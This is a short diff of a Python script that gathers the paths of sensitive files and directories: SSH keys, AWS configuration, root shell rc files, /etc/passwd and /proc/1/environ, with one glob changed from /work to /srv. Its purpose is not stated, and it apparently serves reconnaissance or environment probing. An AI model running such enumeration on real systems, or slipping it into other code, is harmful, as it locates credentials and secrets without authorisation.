@@ -2,7 +2,7 @@
 import glob
 import os
 
-found = glob.glob("/home/*") + glob.glob("/root/.ssh*") + glob.glob("/root/.*rc") + glob.glob("/root/.aws") + glob.glob("/work/*")
+found = glob.glob("/home/*") + glob.glob("/root/.ssh*") + glob.glob("/root/.*rc") + glob.glob("/root/.aws") + glob.glob("/srv/*")
 for place in ("/etc/passwd", "/etc/hostname", "/etc/resolv.conf", "/proc/1/environ", "/proc/self/status", "/proc/mounts", "/sys/kernel"):
     if os.path.exists(place):
         found.append(place)
